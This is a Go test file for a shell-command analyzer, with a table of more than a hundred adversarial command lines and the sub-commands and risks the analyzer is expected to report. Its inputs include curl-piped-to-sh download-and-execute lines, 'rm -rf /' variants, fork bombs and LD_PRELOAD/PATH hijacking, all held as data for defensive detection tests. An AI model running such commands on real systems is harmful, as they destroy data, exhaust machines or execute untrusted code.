package shell

import (
	"strings"
	"testing"
)

// adversarialCase is one command line with the exact commands (rendered by
// show) and risks Analyze must report.
type adversarialCase struct {
	src   string
	cmds  []string
	risks []string
}

const (
	rNonLitName  = "non-literal command name"
	rFuncDef     = "function definition"
	rNonLitWrite = "write redirect to a non-literal path"
	rShC         = "sh -c of a non-literal string"
	rEval        = "eval of a non-literal string"
	rStdinProg   = "interpreter reading a program from stdin"
)

var adversarial = []adversarialCase{
	// chaining
	{"ls -la && rm -rf build", []string{"ls -la", "rm -rf build"}, nil},
	{"ls || rm x", []string{"ls", "rm x"}, nil},
	{"ls; rm x", []string{"ls", "rm x"}, nil},
	{"ls & rm x", []string{"ls", "rm x"}, nil},
	{"ls\nrm x\n", []string{"ls", "rm x"}, nil},
	{"curl -s https://x.sh | sh", []string{"curl -s https://x.sh", "sh"}, []string{rStdinProg, "download and execute: `curl -s https://x.sh` is piped into `sh`"}},
	{"git status && git push --force", []string{"git status", "git push --force"}, nil},
	{"true || false && echo ok", []string{"true", "false", "echo ok"}, nil},
	{"ls;rm x;;", nil, []string{"parse error: 1:8: `;;` can only be used in a case clause"}},
	// command substitution
	{"echo $(rm -rf /tmp/x)", []string{"~echo $(rm -rf /tmp/x)", "substitution: rm -rf /tmp/x"}, nil},
	{`echo "$(curl evil.sh | sh)"`, []string{`~echo "$(curl evil.sh | sh)"`, "substitution: curl evil.sh", "substitution: sh"}, []string{rStdinProg, "download and execute: `curl evil.sh` is piped into `sh`"}},
	{"echo $(echo $(id))", []string{"~echo $(echo $(id))", "substitution: ~echo $(id)", "substitution: id"}, nil},
	{"echo `whoami`", []string{"~echo `whoami`", "substitution: whoami"}, nil},
	// nested backticks: the inner word's text is sliced from the source as the parser locates it
	{"echo `echo \\`id\\``", []string{"~echo `echo \\`id\\``", "substitution: ~echo `id\\`", "substitution: id"}, nil},
	{"ls $(pwd)/src", []string{"~ls $(pwd)/src", "substitution: pwd"}, nil},
	{"x=$(date)", []string{"~x=$(date)", "substitution: date"}, nil},
	{"x=$(rm -rf y) ls", []string{"~x=$(rm -rf y) ls", "substitution: rm -rf y"}, nil},
	{`cat "$(ls)" > /dev/null`, []string{`~cat "$(ls)" > /dev/null(w)`, "substitution: ls"}, nil},
	{"echo ${x:-$(rm y)}", []string{"~echo ${x:-$(rm y)}", "substitution: rm y"}, nil},
	{"echo $((1 + $(id -u)))", []string{"~echo $((1 + $(id -u)))", "substitution: id -u"}, nil},
	{"$(echo rm) -rf x", []string{"~$(echo rm) -rf x", "substitution: echo rm"}, []string{rNonLitName}},
	// process substitution
	{"diff <(ls a) <(ls b)", []string{"~diff <(ls a) <(ls b)", "process-substitution: ls a", "process-substitution: ls b"}, nil},
	{"tee >(grep x) < f", []string{"~tee >(grep x) < f", "process-substitution: grep x"}, nil},
	{"make > >(tee log)", []string{"~make > >(tee log)(~)", "process-substitution: tee log"}, nil},
	// wrappers
	{"timeout 10 rm -rf build", []string{"(timeout) rm -rf build"}, nil},
	{"timeout -k 5 -s KILL 1m make test", []string{"(timeout) make test"}, nil},
	{"timeout --signal=TERM --preserve-status 5 make", []string{"(timeout) make"}, nil},
	{"nice -n 19 make", []string{"(nice) make"}, nil},
	{"nice -5 make", []string{"(nice) make"}, nil},
	{"nohup node server.js &", []string{"(nohup) node server.js"}, nil},
	{"time make", []string{"(time) make"}, nil},
	{"time -p make | tail", []string{"(time) make", "(time) tail"}, nil},
	{"stdbuf -oL -e L make", []string{"(stdbuf) make"}, nil},
	{"command make", []string{"(command) make"}, nil},
	{"command -v make", []string{"command -v make"}, nil},
	{"env FOO=1 BAR=2 make", []string{"(env) FOO=1 BAR=2 make"}, []string{"assignment to FOO", "assignment to BAR"}},
	{"env -u HOME -i make", []string{"(env) make"}, nil},
	{"env", []string{"env"}, nil},
	{"env -S 'rm x'", []string{"env -S 'rm x'"}, nil},
	{"sudo rm -rf /tmp/x", []string{"sudo rm -rf /tmp/x"}, nil},
	{"timeout 5 nice nohup env A=1 command ls", []string{"(timeout nice nohup env command) A=1 ls"}, []string{"assignment to A"}},
	{"timeout $T rm x", []string{"~timeout $T rm x"}, nil},
	{"./timeout 5 rm x", []string{"./timeout 5 rm x"}, nil},
	{"/usr/bin/timeout 5 ls", []string{"(timeout) ls"}, nil},
	{"nohup", []string{"nohup"}, nil},
	{"FOO=bar ls", []string{"FOO=bar ls"}, []string{"assignment to FOO"}},
	{"LD_PRELOAD=/tmp/x.so PATH=/tmp/evil:$PATH make", []string{"~LD_PRELOAD=/tmp/x.so PATH=/tmp/evil:$PATH make"}, []string{"assignment to LD_PRELOAD", "assignment to PATH"}},
	{"LC_ALL=C GOOS=linux CGO_ENABLED=0 x=1 go build", []string{"LC_ALL=C GOOS=linux CGO_ENABLED=0 x=1 go build"}, nil},
	{"PATH=/tmp/evil; ls", []string{"PATH=/tmp/evil", "ls"}, []string{"assignment to PATH"}},
	// redirections
	{"echo hi > out.txt", []string{"echo hi > out.txt(w)"}, nil},
	{"echo hi >> log", []string{"echo hi >> log(w)"}, nil},
	{"make 2> err.log", []string{"make 2> err.log(w)"}, nil},
	{"make &> all.log", []string{"make &> all.log(w)"}, nil},
	{"make &>> all.log", []string{"make &>> all.log(w)"}, nil},
	{"cat <> rw", []string{"cat <> rw(w)"}, nil},
	{"make 2>&1 | tee log", []string{"make 2>& 1", "tee log"}, nil},
	{"ls > /dev/null 2>&1", []string{"ls > /dev/null(w) 2>& 1"}, nil},
	{"ls >| f", []string{"ls >| f(w)"}, nil},
	{"cat < in.txt", []string{"cat < in.txt"}, nil},
	{`echo x > "$OUT"`, []string{`~echo x > "$OUT"(w)(~)`}, []string{rNonLitWrite}},
	{"echo x > $(mktemp)", []string{"~echo x > $(mktemp)(w)(~)", "substitution: mktemp"}, []string{rNonLitWrite}},
	{"ls 3>&- >&2", []string{"ls 3>& - >& 2"}, nil},
	{"echo x >&out.txt", []string{"echo x >& out.txt(w)"}, nil},
	{"> truncated.txt", []string{"> truncated.txt(w)"}, nil},
	{"echo x >'my file'", []string{"echo x > my file(w)"}, nil},
	// quoting
	{"echo 'single $HOME'", []string{"echo 'single $HOME'"}, nil},
	{`echo "double $HOME"`, []string{`~echo "double $HOME"`}, nil},
	{`echo $'tab\there'`, []string{`echo $'tab\there'`}, nil},
	{`ec"ho" hi`, []string{"echo hi"}, nil},
	{`'rm' -rf x`, []string{"rm -rf x"}, nil},
	{`\rm x`, []string{"rm x"}, nil},
	{`echo "a\"b"`, []string{`echo 'a"b'`}, nil},
	{`echo 'it'\''s'`, []string{`echo "it's"`}, nil},
	{`git commit -m "fix: a; rm -rf /"`, []string{"git commit -m 'fix: a; rm -rf /'"}, nil},
	{`echo "$(echo 'a)b')"`, []string{`~echo "$(echo 'a)b')"`, "substitution: echo 'a)b'"}, nil},
	{`echo "\$HOME" '\n'`, []string{`echo '$HOME' '\n'`}, nil},
	// heredocs
	{"cat <<EOF\nhello $USER\nEOF\n", []string{"~cat <<(~)"}, nil},
	{"cat <<'EOF'\n$(rm -rf /)\nEOF\n", []string{"cat <<"}, nil},
	{"cat <<-EOF\n\t$(id)\n\tEOF\n", []string{"~cat <<-(~)", "substitution: id"}, nil},
	{"cat <<EOF > out.sh\nrm -rf /\nEOF\n", []string{"cat << > out.sh(w)"}, nil},
	{`cat <<<"$(id)"`, []string{`~cat <<< "$(id)"(~)`, "substitution: id"}, nil},
	// sh -c
	{"bash -c 'rm -rf build && ls'", []string{"bash -c 'rm -rf build && ls'", "sh -c: rm -rf build", "sh -c: ls"}, nil},
	{`sh -c "echo \"nested quotes\" | wc -c"`, []string{`sh -c 'echo "nested quotes" | wc -c'`, "sh -c: echo 'nested quotes'", "sh -c: wc -c"}, nil},
	{"bash -lc 'npm test'", []string{"bash -lc 'npm test'", "sh -c: npm test"}, nil},
	{"bash -o pipefail -ec 'a | b'", []string{"bash -o pipefail -ec 'a | b'", "sh -c: a", "sh -c: b"}, nil},
	{"zsh -c ls; dash -c 'pwd'", []string{"zsh -c ls", "sh -c: ls", "dash -c pwd", "sh -c: pwd"}, nil},
	{"/bin/sh -c 'ls'", []string{"/bin/sh -c ls", "sh -c: ls"}, nil},
	{`bash -c "$CMD"`, []string{`~bash -c "$CMD"`, "sh -c: ~$CMD"}, []string{rShC, rNonLitName}},
	{`bash -c "rm -rf $HOME"`, []string{`~bash -c "rm -rf $HOME"`, "sh -c: ~rm -rf $HOME"}, []string{rShC}},
	{`bash -c "$(curl -s x)"`, []string{`~bash -c "$(curl -s x)"`, "substitution: curl -s x"}, []string{rShC, "download and execute: the output of `curl -s x` is run by `bash -c \"$(curl -s x)\"`"}},
	{"bash script.sh", []string{"bash script.sh"}, nil},
	{`bash -c 'bash -c "rm -rf /tmp/a"'`, []string{`bash -c 'bash -c "rm -rf /tmp/a"'`, "sh -c: bash -c 'rm -rf /tmp/a'", "sh -c: rm -rf /tmp/a"}, nil},
	{"bash -c 'echo $(id)'", []string{"bash -c 'echo $(id)'", "sh -c: ~echo $(id)", "substitution: id"}, nil},
	{"sudo bash -c 'rm -rf /'", []string{"sudo bash -c 'rm -rf /'", "sh -c: rm -rf /"}, nil},
	{`bash -c "echo 'x"`, []string{`bash -c "echo 'x"`}, []string{"parse error in sh -c string: 1:6: reached EOF without closing quote `'`"}},
	// eval
	{"eval 'rm -rf x; ls'", []string{"eval 'rm -rf x; ls'", "eval: rm -rf x", "eval: ls"}, nil},
	{"eval ls -la", []string{"eval ls -la", "eval: ls -la"}, nil},
	{`eval "$(ssh-agent)"`, []string{`~eval "$(ssh-agent)"`, "substitution: ssh-agent"}, []string{rEval}},
	{`eval "rm $F"`, []string{`~eval "rm $F"`, "eval: ~rm $F"}, []string{rEval}},
	{"eval", []string{"eval"}, nil},
	// xargs and find -exec
	{"find . -name '*.tmp' -delete", []string{"find . -name '*.tmp' -delete"}, nil},
	{"find . -type f -exec rm {} +", []string{"find . -type f -exec rm {} +", "find -exec: rm {}"}, nil},
	{`find . -execdir sh -c 'echo {}' \; -ok rm {} ';'`, []string{"find . -execdir sh -c 'echo {}' ';' -ok rm {} ';'", "find -exec: sh -c 'echo {}'", "sh -c: echo {}", "find -exec: rm {}"}, nil},
	{"ls | xargs rm -f", []string{"ls", "xargs rm -f", "xargs: rm -f"}, nil},
	{"xargs -I{} -n 1 -0 cp {} /tmp", []string{"xargs -I{} -n 1 -0 cp {} /tmp", "xargs: cp {} /tmp"}, nil},
	{"xargs", []string{"xargs", "xargs: echo"}, nil},
	{"git ls-files -z | xargs -0 sudo sed -i s/a/b/", []string{"git ls-files -z", "xargs -0 sudo sed -i s/a/b/", "xargs: sudo sed -i s/a/b/"}, nil},
	{"xargs --weird rm", []string{"xargs --weird rm"}, []string{"xargs command not identified"}},
	{"xargs -P4 timeout 5 sh -c 'rm $0'", []string{"xargs -P4 timeout 5 sh -c 'rm $0'", "xargs: (timeout) sh -c 'rm $0'", "sh -c: ~rm $0"}, nil},
	// grouping and control flow
	{"(cd sub && make)", []string{"cd sub", "make"}, nil},
	{"{ ls; pwd; } > out", []string{"ls > out(w)", "pwd > out(w)"}, nil},
	{"( (ls) ) 2>/dev/null", []string{"ls 2> /dev/null(w)"}, nil},
	{"if grep -q x f; then rm f; elif test -d f; then :; else touch f; fi", []string{"grep -q x f", "rm f", "test -d f", ":", "touch f"}, nil},
	{`for f in *.go; do gofmt -l "$f"; done`, []string{`~gofmt -l "$f"`}, nil},
	{"for f in $(git ls-files); do wc -l $f; done > counts", []string{"~for f in $(git ls-files) > counts(w)", "substitution: git ls-files", "~wc -l $f > counts(w)"}, nil},
	{"for ((i=0; i<3; i++)); do echo $i; done", []string{"~(( i=0; i<3; i++ ))", "~echo $i"}, nil},
	{"while true; do sleep 1; done", []string{"true", "sleep 1"}, nil},
	{"until make; do sleep 5; done", []string{"make", "sleep 5"}, nil},
	{"while read -r l; do echo \"$l\"; done < in.txt", []string{"read -r l < in.txt", `~echo "$l" < in.txt`}, nil},
	{`case "$1" in start) ./run ;; stop) pkill x ;; esac`, []string{`~case "$1" in start stop`, "./run", "pkill x"}, nil},
	{"case $(uname) in Linux) ls;; esac", []string{"~case $(uname) in Linux", "substitution: uname", "ls"}, nil},
	{"case x in esac", nil, []string{"no simple command found"}},
	{"select x in a b; do echo $x; done", []string{"~echo $x"}, nil},
	// functions
	{"f() { rm -rf build; }; f", []string{"rm -rf build", "f"}, []string{rFuncDef}},
	{"function deploy { git push; }", []string{"git push"}, []string{rFuncDef}},
	{":(){ :|:& };:", []string{":", ":", ":"}, []string{rFuncDef, "fork bomb: function : calls itself in a pipeline or in the background"}},
	{"bomb() { bomb | bomb & }; bomb", []string{"bomb", "bomb", "bomb"}, []string{rFuncDef, "fork bomb: function bomb calls itself in a pipeline or in the background"}},
	{"walk() { if [ -d \"$1\" ]; then walk \"$1\"/x | cat; fi; }", []string{`~[ -d "$1" ]`, `~walk "$1"/x`, "cat"}, []string{rFuncDef}},
	// background and pipes
	{"make &", []string{"make"}, nil},
	{"make 2>&1 |& tee log", []string{"make 2>& 1", "tee log"}, nil},
	{"ls | grep x | wc -l", []string{"ls", "grep x", "wc -l"}, nil},
	{"! grep -q x f", []string{"grep -q x f"}, nil},
	{"coproc cat", []string{"cat"}, nil},
	// comments, continuations, unicode, empty
	{"ls # && rm -rf /", []string{"ls"}, nil},
	{"# rm -rf /", nil, nil},
	{"ls \\\n  -la", []string{"ls -la"}, nil},
	{"echo a\\\nb", []string{"echo ab"}, nil},
	{`echo "héllo wörld" 日本語`, []string{"echo 'héllo wörld' 日本語"}, nil},
	{"", nil, nil},
	{"  \n\t ", nil, nil},
	// shell evaluation commands
	{"(( count++ ))", []string{"~(( count++ ))"}, nil},
	{"(( 1 + 2 ))", []string{"(( 1 + 2 ))"}, nil},
	{"(( x = $(id -u) ))", []string{"~(( x = $(id -u) ))", "substitution: id -u"}, nil},
	{`[[ -n "$x" && -f y ]]`, []string{`~[[ -n "$x" && -f y ]]`}, nil},
	{"[[ -d build ]] && rm -rf build", []string{"[[ -d build ]]", "rm -rf build"}, nil},
	{"export PATH=/tmp:$PATH", []string{"~export PATH=/tmp:$PATH"}, nil},
	{"local x=1 y", []string{"local x=1 y"}, nil},
	{`let "x = 1 + 2"`, []string{`~let "x = 1 + 2"`}, nil},
	{`let "1 + 2"`, []string{`let "1 + 2"`}, nil},
	{"x=1 y=2", []string{"x=1 y=2"}, nil},
	// non-literal words
	{"$CMD", []string{"~$CMD"}, []string{rNonLitName}},
	{`"$EDITOR" file`, []string{`~"$EDITOR" file`}, []string{rNonLitName}},
	{"${SHELL} -c ls", []string{"~${SHELL} -c ls"}, []string{rNonLitName}},
	{"echo *.go", []string{"~echo *.go"}, nil},
	{`echo \*.go`, []string{"echo '*.go'"}, nil},
	{"echo {a,b}.txt", []string{"~echo {a,b}.txt"}, nil},
	{"ls ~/src", []string{"~ls ~/src"}, nil},
	{"ls file?.txt [ab].go", []string{"~ls file?.txt [ab].go"}, nil},
	// parse errors
	{"echo 'abc", nil, []string{"parse error: 1:6: reached EOF without closing quote `'`"}},
	{`echo "abc`, nil, []string{"parse error: 1:6: reached EOF without closing quote `\"`"}},
	{"echo $(ls", nil, []string{"parse error: 1:6: reached EOF without matching `$(` with `)`"}},
	{"if true; then ls", nil, []string{"parse error: 1:1: `if` statement must end with `fi`"}},
	{"ls &&", nil, []string{"parse error: 1:4: `&&` must be followed by a statement"}},
	{"ls )", nil, []string{"parse error: 1:4: a command can only contain words and redirects; encountered `)`"}},
}

func TestAnalyzeAdversarial(t *testing.T) {
	if len(adversarial) < 100 {
		t.Fatalf("only %d adversarial cases", len(adversarial))
	}
	for _, tc := range adversarial {
		a := Analyze(tc.src)
		got := showAll(a.Commands)
		if !equalStrings(got, tc.cmds) {
			t.Errorf("Analyze(%q) commands:\n got  %q\n want %q", tc.src, got, tc.cmds)
		}
		if !equalStrings(a.Risks, tc.risks) {
			t.Errorf("Analyze(%q) risks:\n got  %q\n want %q", tc.src, a.Risks, tc.risks)
		}
		wantErr := len(tc.risks) > 0 && strings.HasPrefix(tc.risks[0], riskParse)
		if (a.Err != nil) != wantErr {
			t.Errorf("Analyze(%q) Err = %v, want error %v", tc.src, a.Err, wantErr)
		}
	}
}
